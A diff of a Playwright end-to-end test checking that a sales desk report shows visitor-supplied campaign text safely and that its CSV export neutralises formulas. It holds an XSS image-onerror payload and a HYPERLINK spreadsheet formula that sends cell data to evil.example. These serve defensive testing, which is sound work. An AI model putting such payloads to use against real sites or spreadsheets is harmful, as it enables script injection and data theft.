@@ -16,6 +16,8 @@ test.describe.configure({ mode: "serial" });
 
 const port = Number(process.env.E2E_PORT ?? 3100) + 480;
 const XSS = "<img src=x onerror=alert(1)>";
+const CHROME =
+  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
 const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")';
 let peer: SmtpPeer;
 let server: SpawnedServer;
@@ -73,9 +75,15 @@ test("the owner reads the report with its charts and speed to lead at 1280 px; w
     message: FORMULA,
   });
   expect(contact.status).toBe(200);
+  // A visit from a campaign link whose source a visitor wrote: the report lists it as typed.
+  const visit = await fetch(
+    `${server.origin}/?utm_source=${encodeURIComponent(XSS)}&utm_medium=email&utm_campaign=fall`,
+    {
+      headers: { "user-agent": CHROME, "x-forwarded-for": uniqueClientAddress() },
+    },
+  );
+  expect(visit.status).toBe(200);
   const page = await newPage(browser, "desktop");
-  // A visitor's search that finds nothing: the report lists it as typed.
-  await page.goto(`${server.origin}/search?q=${encodeURIComponent(XSS)}`);
 
   await signIn(page, server.origin, peer, "owner@example.test");
   await page.getByRole("navigation", { name: "Desk" }).getByRole("link", { name: "Report" }).click();
@@ -85,12 +93,12 @@ test("the owner reads the report with its charts and speed to lead at 1280 px; w
     .poll(
       async () => {
         await page.reload();
-        return page.locator("#search-misses").textContent();
+        return page.locator("#campaigns").textContent();
       },
       { timeout: 20_000 },
     )
     .toContain(XSS);
-  await expect(page.locator("#search-misses img")).toHaveCount(0);
+  await expect(page.locator("#campaigns img")).toHaveCount(0);
 
   // The period as the form asks for it, and the report's sections and charts for it.
   await page.getByLabel("First day").fill("2026-01-01");
@@ -119,9 +127,8 @@ test("the owner reads the report with its charts and speed to lead at 1280 px; w
   const csv = readFileSync((await download.path()) ?? "", "utf8");
   const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
   expect(rows.map((row) => [row.name, row.message])).toEqual([[XSS, `'${FORMULA}`]]);
-  const quotes = await page.request.get(
-    (await page.getByRole("link", { name: /^Quote requests, / }).getAttribute("href")) ?? "",
-  );
+  const quotesHref = await page.getByRole("link", { name: /^Quote requests, / }).getAttribute("href");
+  const quotes = await page.request.get(`${server.origin}${quotesHref}`);
   expect(quotes.headers()["content-type"]).toBe("text/csv; charset=utf-8");
   expect(await quotes.text()).toContain(reference);
   for (const cell of (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat())
@@ -132,6 +139,7 @@ test("the owner reads the report with its charts and speed to lead at 1280 px; w
 test("a manager picks a period and reads the report at 375 px by keyboard; nothing is wider than the phone", async ({
   browser,
 }) => {
+  test.setTimeout(120_000);
   const page = await newPage(browser, "phone");
   await signIn(page, server.origin, peer, "manager@example.test");
   await page.getByRole("navigation", { name: "Desk" }).getByRole("link", { name: "Report" }).focus();
@@ -184,6 +192,7 @@ test("a rep has no link to the report and gets the 404 page for it and for every
 test("without a session the report and the downloads answer the sign-in page and no data; a cross-origin post is refused", async ({
   browser,
 }) => {
+  test.setTimeout(120_000);
   const page = await newPage(browser, "phone");
   for (const address of [
     "/desk/report",
